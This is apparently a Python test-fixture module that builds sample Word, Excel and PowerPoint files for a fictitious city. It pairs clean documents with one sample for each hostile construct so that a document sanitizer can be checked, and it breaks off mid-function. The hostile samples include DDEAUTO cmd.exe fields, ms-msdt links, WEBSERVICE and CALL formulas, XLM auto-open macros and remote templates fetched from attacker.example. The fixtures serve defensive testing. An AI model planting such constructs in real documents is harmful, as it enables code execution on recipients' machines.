# SPDX-License-Identifier: GPL-3.0-or-later
"""Office documents of the fictitious みほん市: honest ones, and one for each hostile construct."""

import ooxml_crypt
import ooxml_parts as parts
from ooxml_parts import MICROSOFT, TYPE, cell, document, paragraph, png, rows, run, slideshow, text_shape, workbook, xml
from sample import Sample

EVIL = "http://attacker.example/payload"
HONEST = "みほん市 総務課の文書です。"
VALUE = "集計の結果"


def field(code, shown, pieces=1):
    """A complex field whose code is spread over several runs."""
    size = max(1, -(-len(code) // pieces))
    codes = "".join(f'<w:r><w:instrText xml:space="preserve">{code[i:i + size]}</w:instrText></w:r>'
                    for i in range(0, len(code), size))
    return ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>' + codes + '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
            + run(shown) + '<w:r><w:fldChar w:fldCharType="end"/></w:r>')


# ---- honest documents

def honest_word():
    ruby = ('<w:r><w:ruby><w:rubyPr><w:rubyAlign w:val="distributeSpace"/><w:hps w:val="10"/><w:hpsRaise w:val="18"/>'
            '<w:hpsBaseText w:val="21"/><w:lid w:val="ja-JP"/></w:rubyPr><w:rt><w:r><w:t>せきしょ</w:t></w:r></w:rt>'
            '<w:rubyBase><w:r><w:t>関所</w:t></w:r></w:rubyBase></w:ruby></w:r>')
    table = ('<w:tbl><w:tblPr><w:tblW w:w="0" w:type="auto"/></w:tblPr><w:tblGrid><w:gridCol w:w="3000"/><w:gridCol w:w="3000"/></w:tblGrid>'
             '<w:tr><w:tc><w:tcPr><w:tcW w:w="6000" w:type="dxa"/><w:gridSpan w:val="2"/></w:tcPr><w:p><w:r><w:t>担当課一覧</w:t></w:r></w:p></w:tc></w:tr>'
             '<w:tr><w:tc><w:tcPr><w:tcW w:w="3000" w:type="dxa"/></w:tcPr><w:p><w:r><w:t>総務課</w:t></w:r></w:p></w:tc>'
             '<w:tc><w:tcPr><w:tcW w:w="3000" w:type="dxa"/></w:tcPr><w:p><w:r><w:t>髙橋（﨑）</w:t></w:r></w:p></w:tc></w:tr></w:tbl>')
    shape = ('<w:r><mc:AlternateContent><mc:Choice Requires="wps"><w:drawing><wp:inline distT="0" distB="0" distL="0" distR="0">'
             '<wp:extent cx="900000" cy="300000"/><wp:docPr id="7" name="枠"/><a:graphic><a:graphicData '
             f'uri="{parts.NAMESPACES["wps"]}"><wps:wsp><wps:cNvSpPr txBox="1"/><wps:spPr><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></wps:spPr>'
             '<wps:txbx><w:txbxContent><w:p><w:r><w:t>枠の中の文字</w:t></w:r></w:p></w:txbxContent></wps:txbx><wps:bodyPr/></wps:wsp>'
             '</a:graphicData></a:graphic></wp:inline></w:drawing></mc:Choice><mc:Fallback><w:pict><v:rect style="width:70pt;height:24pt">'
             '<v:textbox><w:txbxContent><w:p><w:r><w:t>枠の中の文字</w:t></w:r></w:p></w:txbxContent></v:textbox></v:rect></w:pict></mc:Fallback>'
             '</mc:AlternateContent></w:r>')
    package = document(
        paragraph(HONEST, "<w:r><w:tab/></w:r>", ruby, "の手引"), table,
        paragraph("脚注付き", '<w:r><w:footnoteReference w:id="2"/></w:r>',
                  '<w:commentRangeStart w:id="0"/>', "確認箇所", '<w:commentRangeEnd w:id="0"/><w:r><w:commentReference w:id="0"/></w:r>'),
        paragraph('<w:hyperlink r:id="rId50" w:history="1">' + run("市のページ") + "</w:hyperlink>", field(" PAGE ", "1"),
                  field(' EQ \\* jc2 \\* hps10 \\o\\ad(\\s\\up 9(るび),漢字)', "漢字")),
        paragraph(parts.picture_run("rId51")), paragraph(shape))
    package.relate("hyperlink", "https://mihon.example/", number="rId50", mode="External")
    package.add("word/media/image1.png", None, png(), kind="image", number="rId51")
    note = '<w:footnote w:id="{}"{}><w:p><w:r>{}</w:r></w:p></w:footnote>'
    package.add("word/footnotes.xml", "wordprocessingml.footnotes+xml", xml("w:footnotes", (
        note.format(0, ' w:type="separator"', "<w:separator/>") + note.format(1, ' w:type="continuationSeparator"', "<w:continuationSeparator/>")
        + note.format(2, "", "<w:t>みほん市例規集による。</w:t>"))), kind="footnotes")
    package.add("word/comments.xml", "wordprocessingml.comments+xml", xml("w:comments", (
        '<w:comment w:id="0" w:author="みほん 花子" w:date="2024-04-01T09:00:00Z"><w:p><w:r><w:t>ここを確認してください。</w:t></w:r></w:p></w:comment>')),
        kind="comments")
    package.add("word/styles.xml", "wordprocessingml.styles+xml", xml("w:styles", (
        '<w:docDefaults><w:rPrDefault><w:rPr><w:rFonts w:ascii="Century" w:eastAsia="ＭＳ 明朝"/><w:sz w:val="21"/></w:rPr></w:rPrDefault></w:docDefaults>'
        '<w:style w:type="paragraph" w:default="1" w:styleId="a"><w:name w:val="Normal"/></w:style>')), kind="styles")
    return package


def chart(reference="表!$B$1:$B$2"):
    number = f'<c:numRef><c:f>{reference}</c:f><c:numCache><c:ptCount val="2"/><c:pt idx="0"><c:v>12</c:v></c:pt><c:pt idx="1"><c:v>34</c:v></c:pt></c:numCache></c:numRef>'
    return xml("c:chartSpace", (
        '<c:chart><c:title><c:tx><c:rich><a:bodyPr/><a:p><a:r><a:t>件数のグラフ</a:t></a:r></a:p></c:rich></c:tx></c:title><c:plotArea><c:layout/>'
        f'<c:barChart><c:barDir val="col"/><c:grouping val="clustered"/><c:ser><c:idx val="0"/><c:order val="0"/><c:val>{number}</c:val></c:ser>'
        '<c:axId val="1"/><c:axId val="2"/></c:barChart><c:catAx><c:axId val="1"/><c:scaling/><c:delete val="0"/><c:axPos val="b"/><c:crossAx val="2"/></c:catAx>'
        '<c:valAx><c:axId val="2"/><c:scaling/><c:delete val="0"/><c:axPos val="l"/><c:crossAx val="1"/></c:valAx></c:plotArea></c:chart>'))


def honest_excel():
    body = (rows([cell("A1", "窓口"), cell("B1", 12)], [cell("A2", "郵送"), cell("B2", 34)],
                 [cell("A3", "合計"), cell("B3", 46, "SUM(B1:B2)")], [cell("A4", "結合した見出し")],
                 [cell("B5", 24, "B1*2", ' t="shared" ref="B5:B6" si="0"')], [cell("B6", 68, "", ' t="shared" si="0"')])
            + '<mergeCells count="1"><mergeCell ref="A4:C4"/></mergeCells>'
            '<conditionalFormatting sqref="B1:B3"><cfRule type="cellIs" priority="1" operator="greaterThan"><formula>40</formula></cfRule></conditionalFormatting>'
            '<dataValidations count="1"><dataValidation type="list" sqref="A1:A3"><formula1>"窓口,郵送"</formula1></dataValidation></dataValidations>'
            '<hyperlinks><hyperlink ref="A1" r:id="rId100"/><hyperlink ref="A2" location="\'表\'!A1" display="先頭"/></hyperlinks>'
            '<pageMargins left="0.7" right="0.7" top="0.75" bottom="0.75" header="0.3" footer="0.3"/><drawing r:id="rId101"/><legacyDrawing r:id="rId102"/>')
    package = workbook(("表", body), ("二枚目", rows([cell("A1", "別の表")])),
                       extra="<definedNames><definedName name=\"_xlnm.Print_Area\" localSheetId=\"0\">'表'!$A$1:$C$6</definedName></definedNames>")
    source = "xl/worksheets/sheet1.xml"
    package.relate("hyperlink", "mailto:soumu@mihon.example", source, "rId100", "External")
    anchor = ('<xdr:twoCellAnchor><xdr:from><xdr:col>3</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>0</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from>'
              '<xdr:to><xdr:col>8</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>12</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:to>{}<xdr:clientData/></xdr:twoCellAnchor>')
    frame = ('<xdr:graphicFrame macro=""><xdr:nvGraphicFramePr><xdr:cNvPr id="2" name="グラフ 1"/><xdr:cNvGraphicFramePr/></xdr:nvGraphicFramePr>'
             '<xdr:xfrm><a:off x="0" y="0"/><a:ext cx="0" cy="0"/></xdr:xfrm><a:graphic><a:graphicData '
             f'uri="{parts.NAMESPACES["c"]}"><c:chart r:id="rId1"/></a:graphicData></a:graphic></xdr:graphicFrame>')
    drawing = "xl/drawings/drawing1.xml"
    package.add(drawing, "drawing+xml", xml("xdr:wsDr", anchor.format(frame)), source, "drawing", "rId101")
    package.add("xl/charts/chart1.xml", "drawingml.chart+xml", chart(), drawing, "chart", "rId1")
    package.add("xl/comments1.xml", "spreadsheetml.comments+xml", xml("comments", (
        '<authors><author>みほん 太郎</author></authors><commentList><comment ref="A1" authorId="0"><text><r><t>受付件数のメモ</t></r></text></comment></commentList>'),
        parts.SHEET), source, "comments")
    package.add("xl/drawings/vmlDrawing1.vml", None, (
        '<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:x="urn:schemas-microsoft-com:office:excel">'
        '<v:shapetype id="_x0000_t202" coordsize="21600,21600" o:spt="202" path="m,l,21600r21600,l21600,xe"/><v:shape id="_x0000_s1025" type="#_x0000_t202" '
        'style="position:absolute;visibility:hidden"><v:textbox><div style="text-align:left"></div></v:textbox><x:ClientData ObjectType="Note"><x:Anchor>1, 15, 0, 10, 3, 15, 4, 4</x:Anchor>'
        '<x:Row>0</x:Row><x:Column>0</x:Column></x:ClientData></v:shape></xml>'), source, "vmlDrawing", "rId102")
    return package


def honest_slides():
    package = slideshow((text_shape(2, "防災訓練のお知らせ\n十月一日 午前九時"), ""), (text_shape(2, "集合場所は市役所前"), ""))
    package.add("ppt/notesSlides/notesSlide1.xml", "presentationml.notesSlide+xml", xml("p:notes", (
        f"<p:cSld><p:spTree>{parts.TREE}{text_shape(2, '話す内容の覚え書き')}</p:spTree></p:cSld>")), "ppt/slides/slide1.xml", "notesSlide")
    package.relate("slide", "/ppt/slides/slide1.xml", "ppt/notesSlides/notesSlide1.xml")
    return package


def honest():
    word = ("担当課一覧", "髙橋（﨑）", "せきしょ", "みほん市例規集による。", "ここを確認してください。", "枠の中の文字", "市のページ")
    excel = ("結合した見出し", "件数のグラフ", "受付件数のメモ", "SUM(B1:B2)", "別の表", "窓口,郵送")
    slides = ("防災訓練のお知らせ", "集合場所は市役所前", "話す内容の覚え書き")
    template = document(HONEST, content_type="wordprocessingml.template.main+xml")
    book = workbook(("様式", rows([cell("A1", VALUE)])), content_type="spreadsheetml.template.main+xml")
    show = slideshow((text_shape(2, HONEST), ""), content_type="presentationml.slideshow.main+xml")
    design = slideshow((text_shape(2, HONEST), ""), content_type="presentationml.template.main+xml")
    return [Sample("みほん市の文書.docx", honest_word().bytes(), stays=word),
            Sample("みほん市の集計.xlsx", honest_excel().bytes(), stays=excel),
            Sample("防災訓練.pptx", honest_slides().bytes(), stays=slides),
            Sample("様式.dotx", template.bytes(), stays=(HONEST,)), Sample("様式.xltx", book.bytes(), stays=(VALUE,)),
            Sample("上映.ppsx", show.bytes(), stays=(HONEST,)), Sample("意匠.potx", design.bytes(), stays=(HONEST,))]


def text_only():
    """The same honest documents, of which only the text is wanted."""
    return [Sample("テキスト化.docx", honest_word().bytes(), stays=("担当課一覧", "総務課", "みほん市例規集による。"), treatment="text"),
            Sample("テキスト化.xlsx", honest_excel().bytes(), stays=("[表]", "結合した見出し", "別の表"), treatment="text"),
            Sample("テキスト化.pptx", honest_slides().bytes(), stays=("防災訓練のお知らせ", "話す内容の覚え書き"), treatment="text")]


# ---- Word

def word(name, package, construct, gone, stays=(HONEST,), **more):
    return Sample(name, package.bytes(), construct=construct, gone=gone, stays=stays, **more)


def word_with(*blocks, **more):
    return document(HONEST, *blocks, **more)


def macro_package(make, content_type, folder):
    package = make(content_type)
    package.add(f"{folder}/vbaProject.bin", "application/vnd.ms-office.vbaProject", b"\xd0\xcf\x11\xe0Attribut VB_Name AutoOpen",
                kind=MICROSOFT + "2006/relationships/vbaProject")
    return package.bytes()


def macros():
    makers = {
        "docm": (lambda t: document(HONEST, content_type=t), "application/vnd.ms-word.document.macroEnabled.main+xml", "word", HONEST),
        "dotm": (lambda t: document(HONEST, content_type=t), "application/vnd.ms-word.template.macroEnabledTemplate.main+xml", "word", HONEST),
        "xlsm": (lambda t: workbook(("表", rows([cell("A1", VALUE)])), content_type=t), "application/vnd.ms-excel.sheet.macroEnabled.main+xml", "xl", VALUE),
        "xltm": (lambda t: workbook(("表", rows([cell("A1", VALUE)])), content_type=t), "application/vnd.ms-excel.template.macroEnabled.main+xml", "xl", VALUE),
        "pptm": (lambda t: slideshow((text_shape(2, HONEST), ""), content_type=t), "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml", "ppt", HONEST),
    }
    return [Sample(f"マクロ.{kind}", macro_package(make, content, folder), construct="vba", gone=(b"AutoOpen", b"vbaProject", b"macroEnabled"), stays=(stays,))
            for kind, (make, content, folder, stays) in makers.items()]


def word_objects():
    shape = ('<v:shape id="_x0000_i1025" style="width:48pt;height:48pt" o:ole=""><v:imagedata r:id="rId20" o:title=""/></v:shape>')
    ole = document(HONEST, paragraph(f'<w:r><w:object w:dxaOrig="960" w:dyaOrig="960">{shape}<o:OLEObject Type="Embed" ProgID="Package" '
                                     'ShapeID="_x0000_i1025" DrawAspect="Content" ObjectID="_1" r:id="rId21"/></w:object></w:r>'))
    ole.add("word/media/image1.png", None, png(), kind="image", number="rId20")
    ole.add("word/embeddings/oleObject1.bin", "oleObject", b"\xd0\xcf\x11\xe0calc.exe payload", kind="oleObject", number="rId21")
    control = document(HONEST, paragraph(f'<w:r><w:object>{shape}<w:control r:id="rId21" w:name="Button1" w:shapeid="_x0000_i1025"/></w:object></w:r>'))
    control.add("word/media/image1.png", None, png(), kind="image", number="rId20")
    control.add("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", (
        '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}"/>'),
        kind="control", number="rId21")
    eps = document(HONEST, paragraph(parts.picture_run("rId20")))
    eps.defaults["eps"] = "image/x-eps"
    eps.add("word/media/image1.eps", None, b"%!PS-Adobe-3.0 EPSF-3.0\n(payload) run\n", kind="image", number="rId20")
    linked = document(HONEST, paragraph(parts.picture_run("rId20").replace("r:embed=", "r:link=")))
    linked.relate("image", EVIL + ".png", number="rId20", mode="External")
    return [word("埋め込み.docx", ole, "ole", (b"calc.exe payload", b"OLEObject", b"oleObject1")),
            word("部品.docx", control, "activex", (b"D7053240", b"activeX")),
            word("印刷用図.docx", eps, "eps", (b"(payload) run", b"%!PS")),
            word("外部の図.docx", linked, "external_relationship", (EVIL.encode(),))]


def word_links():
    template = word_with()
    template.add("word/settings.xml", "wordprocessingml.settings+xml", xml("w:settings", '<w:attachedTemplate r:id="rId1"/><w:zoom w:percent="100"/>'),
                 kind="settings")
    template.relate("attachedTemplate", EVIL + ".dotm", "word/settings.xml", "rId1", "External")
    link = word_with(paragraph('<w:hyperlink r:id="rId20">' + run("残る文字") + "</w:hyperlink>"))
    link.relate("hyperlink", "file:///c:/windows/system32/calc.exe", number="rId20", mode="External")
    script = word_with(paragraph('<w:hyperlink r:id="rId20">' + run("残る文字") + "</w:hyperlink>"))
    script.relate("hyperlink", "ms-msdt:/id PCWDiagnostic", number="rId20", mode="External")
    sub = word_with('<w:subDoc r:id="rId20"/>')
    sub.relate("subDocument", EVIL + ".docx", number="rId20", mode="External")
    frames = word_with()
    frames.add("word/webSettings.xml", "wordprocessingml.webSettings+xml", xml("w:webSettings", (
        '<w:frameset><w:frame><w:name w:val="a"/><w:sourceFileName r:id="rId1"/></w:frame></w:frameset>')), kind="webSettings")
    frames.relate("frame", EVIL + ".html", "word/webSettings.xml", "rId1", "External")
    merge = word_with()
    merge.add("word/settings.xml", "wordprocessingml.settings+xml", xml("w:settings", (
        '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:query w:val="SELECT * FROM secret"/><w:dataSource r:id="rId1"/></w:mailMerge>')), kind="settings")
    merge.relate("mailMergeSource", "file:///c:/data.mdb", "word/settings.xml", "rId1", "External")
    return [word("ひな形参照.docx", template, "attached_template", (EVIL.encode(), b"attachedTemplate")),
            word("危険なリンク.docx", link, "unsafe_link", (b"calc.exe",), stays=(HONEST, "残る文字")),
            word("危険な呼び出し.docx", script, "unsafe_link", (b"ms-msdt",), stays=(HONEST, "残る文字")),
            word("子文書.docx", sub, "sub_document", (EVIL.encode(), b"subDoc")),
            word("枠.docx", frames, "frameset", (EVIL.encode(), b"frameset")),
            word("差し込み.docx", merge, "mail_merge", (b"SELECT", b"data.mdb"))]


def word_fields():
    dde = ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '
    nested = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>' + field(' QUOTE 68 68 69 ', "DDE", 2)
              + '<w:r><w:instrText xml:space="preserve"> cmd "/k payload" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
              + run("残る結果") + '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
    picture = ' INCLUDEPICTURE "' + EVIL + '.png" \\d '
    simple = '<w:fldSimple w:instr=\' DDE excel "payload" \'>' + run("残る結果") + "</w:fldSimple>"
    stays = (HONEST, "残る結果")
    return [word("DDE分割.docx", word_with(paragraph(field(dde, "残る結果", 7))), "dde", (b"cmd.exe",), stays),
            word("DDE単純.docx", word_with(paragraph(simple)), "dde", (b"payload", b"fldSimple"), stays),
            word("DDE入れ子.docx", word_with(paragraph(nested), paragraph(field(dde, "残る結果"))), "dde", (b"/k payload", b"cmd.exe"), stays),
            word("外部図フィールド.docx", word_with(paragraph(field(picture, "残る結果"))), "field", (EVIL.encode(),), stays),
            word("外部文フィールド.docx", word_with(paragraph(field(' INCLUDETEXT "\\\\\\\\server\\\\share\\\\x.docx" ', "残る結果"))), "field", (b"server",), stays),
            word("マクロボタン.docx", word_with(paragraph(field(" MACROBUTTON Payload 押す ", "残る結果"))), "field", (b"Payload",), stays)]


def word_parts():
    def add(package, name, content_type, data, kind, **more):
        package.add(name, content_type, data, kind=kind, **more)
        return package

    chunk = add(word_with('<w:altChunk r:id="rId20"/>'), "word/chunk.html", "text/html", b"<script>payload()</script>", "aFChunk", number="rId20")
    ribbon = word_with()
    ribbon.add("customUI/customUI.xml", "application/xml", (
        '<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="payload"/>'))
    ribbon.relations[""].append(("rId9", MICROSOFT + "2006/relationships/ui/extensibility", "customUI/customUI.xml"))
    font = word_with()
    font.add("word/fontTable.xml", "wordprocessingml.fontTable+xml", xml("w:fonts", '<w:font w:name="みほん"><w:embedRegular r:id="rId1"/></w:font>'), kind="fontTable")
    font.add("word/fonts/font1.odttf", "obfuscatedFont", b"payload font", "word/fontTable.xml", "font", "rId1")
    data = add(word_with('<w:sdt><w:sdtPr><w:dataBinding w:xpath="/a" w:storeItemID="{1}"/></w:sdtPr><w:sdtContent>' + paragraph("残る文字") + "</w:sdtContent></w:sdt>"),
               "customXml/item1.xml", "application/xml", "<a>payload data</a>", "customXml")
    meta = word_with('<w:p w:rsidR="00AB12CD"><w:r><w:t>本文</w:t></w:r></w:p>')
    meta.add("docProps/core.xml", "application/vnd.openxmlformats-package.core-properties+xml", (
        f'<cp:coreProperties xmlns:cp="{parts.PACKAGE}metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>作成者の名前</dc:creator></cp:coreProperties>'))
    meta.relations[""].append(("rId9", parts.PACKAGE + "relationships/metadata/core-properties", "docProps/core.xml"))
    unlisted = add(word_with(), "word/other.bin", "application/octet-stream", b"payload bytes", "http://attacker.example/relationship")
    return [word("取り込み.docx", chunk, "alt_chunk", (b"payload()", b"altChunk")),
            word("操作画面.docx", ribbon, "custom_ui", (b"onLoad", b"customUI")),
            word("書体.docx", font, "embedded_font", (b"payload font", b"embedRegular")),
            word("独自データ.docx", data, "custom_xml", (b"payload data", b"dataBinding"), stays=(HONEST, "残る文字")),
            word("属性.docx", meta, "metadata", ("作成者の名前".encode(), b"00AB12CD"), stays=(HONEST, "本文")),
            word("未知の部品.docx", unlisted, "unlisted_part", (b"payload bytes",))]


# ---- Excel

def excel(name, package, construct, gone, stays=(VALUE,), **more):
    return Sample(name, package.bytes(), construct=construct, gone=gone, stays=stays, **more)


def excel_formulas():
    hostile = {
        "DDE": ("cmd|'/c payload.exe'!A0", b"payload.exe"),
        "WEBSERVICE": (f'_xlfn.WEBSERVICE("{EVIL}")', EVIL.encode()),
        "CALL": ('CALL("urlmon","payload","JJCCJJ",0)', b"urlmon"),
        "REGISTER": ('REGISTER.ID("kernel32","payload")', b"kernel32"),
        "RTD": ('RTD("payload.server",,"x")', b"payload.server"),
        "リンク関数": ('HYPERLINK("file:///c:/payload.exe","x")', b"payload.exe"),
    }
    samples = []
    for name, (formula, gone) in hostile.items():
        escaped = formula.replace('"', "&quot;")
        samples.append(excel(f"式_{name}.xlsx", workbook(("表", rows([cell("A1", VALUE, escaped)]))), "active_formula", (gone,)))
    shared = rows([cell("A1", VALUE, "cmd|'/c payload'!A0", ' t="shared" ref="A1:A2" si="0"')], [cell("A2", "二つ目の値", "", ' t="shared" si="0"')],
                  [cell("A3", 3, "1+2", ' t="shared" ref="A3:A4" si="1"')], [cell("A4", 4, "", ' t="shared" si="1"')])
    samples.append(excel("式_共有.xlsx", workbook(("表", shared)), "active_formula", (b"payload",), (VALUE, "二つ目の値", "1+2")))
    outside = workbook(("表", rows([cell("A1", VALUE, "[1]Sheet1!A1")])), extra='<externalReferences><externalReference r:id="rId60"/></externalReferences>')
    outside.add("xl/externalLinks/externalLink1.xml", "spreadsheetml.externalLink+xml", xml("externalLink", (
        '<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook>'), parts.SHEET), kind="externalLink", number="rId60")
    outside.relate("externalLinkPath", "file:///c:/payload.xlsx", "xl/externalLinks/externalLink1.xml", "rId1", "External")
    samples.append(excel("外部ブック.xlsx", outside, "external_link", (b"payload.xlsx", b"externalReference", b"[1]Sheet1")))
    dde = workbook(("表", rows([cell("A1", VALUE, "[1]!'!payload'")])), extra='<externalReferences><externalReference r:id="rId60"/></externalReferences>')
    dde.add("xl/externalLinks/externalLink1.xml", "spreadsheetml.externalLink+xml", xml("externalLink", (
        '<ddeLink ddeService="cmd" ddeTopic="/c payload.exe"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink>'), parts.SHEET), kind="externalLink", number="rId60")
    samples.append(excel("DDEリンク.xlsx", dde, "dde", (b"payload", b"ddeLink")))
    return samples


def excel_parts():
    macro = workbook(("表", rows([cell("A1", VALUE)])), ("末尾", rows([cell("A1", "末尾の表", "表!A1")])), before='<bookViews><workbookView activeTab="2"/></bookViews>', extra=(
        '<definedNames><definedName name="_xlnm.Auto_Open" localSheetId="1" hidden="1">Macro1!$A$1</definedName>'
        "<definedName name=\"印刷\" localSheetId=\"2\">'末尾'!$A$1</definedName></definedNames>"),
        content_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    listed = macro.parts["xl/workbook.xml"].decode().replace('<sheet name="末尾"', '<sheet name="Macro1" sheetId="9" r:id="rId70"/><sheet name="末尾"')
    macro.parts["xl/workbook.xml"] = listed.encode()
    macro.add("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml", (
        f'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" xmlns="{parts.SHEET}"><sheetData><row r="1"><c r="A1"><f>EXEC("payload.exe")</f></c></row></sheetData></xm:macrosheet>'),
        kind=MICROSOFT + "2006/relationships/xlMacrosheet", number="rId70")
    table = workbook(("表", rows([cell("A1", VALUE)])))
    table.add("xl/connections.xml", "spreadsheetml.connections+xml", xml("connections", (
        '<connection id="1" name="c" type="1"><dbPr connection="DSN=payload" command="SELECT secret"/></connection>'), parts.SHEET), kind="connections")
    table.add("xl/queryTables/queryTable1.xml", "spreadsheetml.queryTable+xml", xml("queryTable", "", parts.SHEET, ' name="payload" connectionId="1"'),
              "xl/worksheets/sheet1.xml", "queryTable")
    printer = workbook(("表", rows([cell("A1", VALUE)]) + '<pageSetup paperSize="9" r:id="rId1"/>'))
    printer.add("xl/printerSettings/printerSettings1.bin", "spreadsheetml.printerSettings", b"\\\\printserver\\payload", "xl/worksheets/sheet1.xml", "printerSettings", "rId1")
    ole = workbook(("表", rows([cell("A1", VALUE)]) + '<oleObjects><oleObject progId="Package" shapeId="1025" r:id="rId1"/></oleObjects>'))
    ole.add("xl/embeddings/oleObject1.bin", "oleObject", b"\xd0\xcf\x11\xe0payload", "xl/worksheets/sheet1.xml", "oleObject", "rId1")
    button = workbook(("表", rows([cell("A1", VALUE)]) + '<legacyDrawing r:id="rId1"/>'))
    button.add("xl/drawings/vmlDrawing1.vml", None, (
        '<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:x="urn:schemas-microsoft-com:office:excel">'
        '<v:shape id="_x0000_s1025" type="#_x0000_t201" style="position:absolute"><v:textbox><div style="text-align:center"><font face="Arial" size="200">受付ボタン</font></div></v:textbox>'
        '<x:ClientData ObjectType="Button"><x:FmlaMacro>[0]!Payload</x:FmlaMacro></x:ClientData></v:shape></xml>'), "xl/worksheets/sheet1.xml", "vmlDrawing", "rId1")
    pivot = workbook(("表", rows([cell("A1", VALUE)])), extra='<pivotCaches><pivotCache cacheId="1" r:id="rId60"/></pivotCaches>')
    pivot.add("xl/pivotCache/pivotCacheDefinition1.xml", "spreadsheetml.pivotCacheDefinition+xml", xml("pivotCacheDefinition", (
        '<cacheSource type="external" connectionId="1"/><cacheFields count="0"/>'), parts.SHEET, ' refreshedBy="payload"'), kind="pivotCacheDefinition", number="rId60")
    pivot.add("xl/connections.xml", "spreadsheetml.connections+xml", table.parts["xl/connections.xml"], kind="connections")
    link = workbook(("表", rows([cell("A1", VALUE)]) + '<hyperlinks><hyperlink ref="A1" r:id="rId1"/></hyperlinks>'))
    link.relate("hyperlink", "\\\\server\\share\\payload.exe", "xl/worksheets/sheet1.xml", "rId1", "External")
    return [excel("マクロシート.xlsm", macro, "xlm", (b"EXEC", b"macrosheet", b"Auto_Open", b"Macro1"), (VALUE, "末尾の表", "表!A1")),
            excel("外部接続.xlsx", table, "connections", (b"DSN=payload", b"queryTable")),
            excel("印刷設定.xlsx", printer, "printer_settings", (b"printserver",)),
            excel("埋め込み.xlsx", ole, "ole", (b"oleObject",)),
            excel("ボタン.xlsx", button, "macro_reference", (b"Payload",), (VALUE, "受付ボタン")),
            excel("外部集計.xlsx", pivot, "connections", (b"payload", b"pivotCache")),
            excel("共有フォルダ.xlsx", link, "unsafe_link", (b"payload.exe",))]


# ---- PowerPoint

def slides():
    def with_action(action, kind=None, target=None):
        click = f'<a:rPr><a:hlinkClick r:id="{"rId60" if kind else ""}" action="{action}"/></a:rPr>'
        package = slideshow((text_shape(2, HONEST, click), ""))
        if kind:
            package.relate(kind, target, "ppt/slides/slide1.xml", "rId60", "External")
        return package

    frame = ('<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="5" name="物"/><p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr><p:xfrm><a:off x="0" y="0"/>'
             '<a:ext cx="900000" cy="900000"/></p:xfrm><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole">'
             '<mc:AlternateContent><mc:Choice Requires="v"><p:oleObj spid="_x0000_s1026" name="物" r:id="rId60" imgW="1" imgH="1" progId="Package"><p:embed/></p:oleObj></mc:Choice>'
             '<mc:Fallback><p:oleObj name="物" r:id="rId60" imgW="1" imgH="1" progId="Package"><p:embed/><p:pic><p:nvPicPr><p:cNvPr id="0" name="絵"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr>'
             '<p:blipFill><a:blip r:embed="rId61"/><a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic></p:oleObj></mc:Fallback>'
             '</mc:AlternateContent></a:graphicData></a:graphic></p:graphicFrame>')
    ole = slideshow((text_shape(2, HONEST) + frame, ""))
    ole.add("ppt/embeddings/oleObject1.bin", "oleObject", b"\xd0\xcf\x11\xe0payload", "ppt/slides/slide1.xml", "oleObject", "rId60")
    ole.add("ppt/media/image1.png", None, png(), "ppt/slides/slide1.xml", "image", "rId61")
    movie = ('<p:pic><p:nvPicPr><p:cNvPr id="6" name="動画"/><p:cNvPicPr/><p:nvPr><a:videoFile r:link="rId60"/></p:nvPr></p:nvPicPr><p:blipFill><a:blip r:embed="rId61"/>'
             '<a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic>')
    timing = ('<p:timing><p:tnLst><p:par><p:cTn id="1" dur="indefinite" restart="never" nodeType="tmRoot"><p:childTnLst><p:video><p:cMediaNode><p:cTn id="2"/>'
              '<p:tgtEl><p:spTgt spid="6"/></p:tgtEl></p:cMediaNode></p:video></p:childTnLst></p:cTn></p:par></p:tnLst></p:timing>')
    media = slideshow((text_shape(2, HONEST) + movie, timing))
    media.relate("video", "file:///c:/payload.mp4", "ppt/slides/slide1.xml", "rId60", "External")
    media.add("ppt/media/image1.png", None, png(), "ppt/slides/slide1.xml", "image", "rId61")
    pairs = [("動作_プログラム.pptx", with_action("ppaction://program", "hyperlink", "payload.exe"), "action", (b"payload", b"ppaction")),
             ("動作_マクロ.pptx", with_action("ppaction://macro?name=Payload"), "action", (b"Payload",)),
             ("埋め込み.pptx", ole, "ole", (b"oleObj", b"\xd0\xcf\x11\xe0payload")),
             ("動画.pptx", media, "external_relationship", (b"payload.mp4", b"videoFile", b"p:video"))]
    return [Sample(name, package.bytes(), construct=construct, gone=gone, stays=(HONEST,)) for name, package, construct, gone in pairs]


# ---- packages that are refused

def refused():
    entity = document(HONEST)
    entity.parts["word/document.xml"] = entity.parts["word/document.xml"].replace(
